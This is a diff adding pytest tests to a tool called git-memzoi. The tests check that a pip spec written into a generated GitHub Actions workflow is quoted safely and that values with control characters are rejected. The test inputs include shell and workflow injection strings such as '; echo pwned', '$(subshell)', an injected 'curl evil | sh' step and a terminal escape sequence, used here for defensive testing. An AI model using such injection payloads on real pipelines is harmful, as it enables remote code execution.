@@ -10,17 +10,20 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+import yaml
 
 from conftest import FIXTURES, Repo, git, make_repo
 from git_memzoi.agents.claude_hook import MAX_EVENT_BYTES
 from git_memzoi.errors import Refused
 from git_memzoi.runtime import atomic
 from test_agent_hook import add_migrations_risk
+from test_hooks_ci import WORKFLOW, schema_check
 from test_lifecycle_support import packet, write_packet
 
 SECRET = "c2VjcmV0LXRva2VuLWZyb20tZG9ja2Vy"
@@ -364,3 +367,42 @@ def test_apply_refuses_a_fixed_memory_file_that_is_a_link(
     assert snapshot(home) == before
     assert (repo.path / ".memzoi/proposals/pending/mem_2026_03_01_auth_abc123.md").is_file()
     assert not (repo.path / ".memzoi/records").joinpath("semantic").exists()
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "git-memzoi==0.1.0 #egg=evil",
+        "git-memzoi @ https://example.com/x.whl#sha256=abc",
+        "key: value",
+        "git+https://example.com/repo.git@v1 ; echo pwned",
+        "./tools/git memzoi's copy",
+        '"quoted" \\ and $(subshell) `tick`',
+        "- item: [a, b] {c: d} & *alias !tag %dir @at",
+    ],
+)
+def test_a_pip_spec_reaches_pip_exactly_as_given(repo: Repo, spec: str) -> None:
+    result = memzoi("hook", "install", "--ci", "github", "--pip-spec", spec, cwd=repo.path)
+    assert result.returncode == 0, result.stderr
+    path = repo.path / WORKFLOW
+    checked = schema_check(path)
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+    steps = yaml.safe_load(path.read_text())["jobs"]["memory"]["steps"]
+    assert [s["name"] for s in steps] == [
+        "Check out the pull request with its whole history",
+        "Set up Python",
+        "Install git memzoi",
+        "Check the commits the pull request adds, as the server hook would",
+        "Validate memory at the pull request's head",
+    ]
+    assert shlex.split(steps[2]["run"]) == ["python", "-m", "pip", "install", spec]
+
+
+@pytest.mark.parametrize(
+    "spec", ["git-memzoi\n      - run: curl evil | sh", "git-memzoi\r", "x\x1b]52;c;Zm9v\x07", "a\u2028b", "", "   "]
+)
+def test_a_pip_spec_with_control_characters_is_a_usage_error(repo: Repo, spec: str) -> None:
+    result = memzoi("hook", "install", "--ci", "github", "--pip-spec", spec, cwd=repo.path)
+    assert result.returncode == 2, result.stderr
+    assert result.stderr.count("\n") == 1 and "--pip-spec" in result.stderr
+    assert not (repo.path / WORKFLOW).exists()
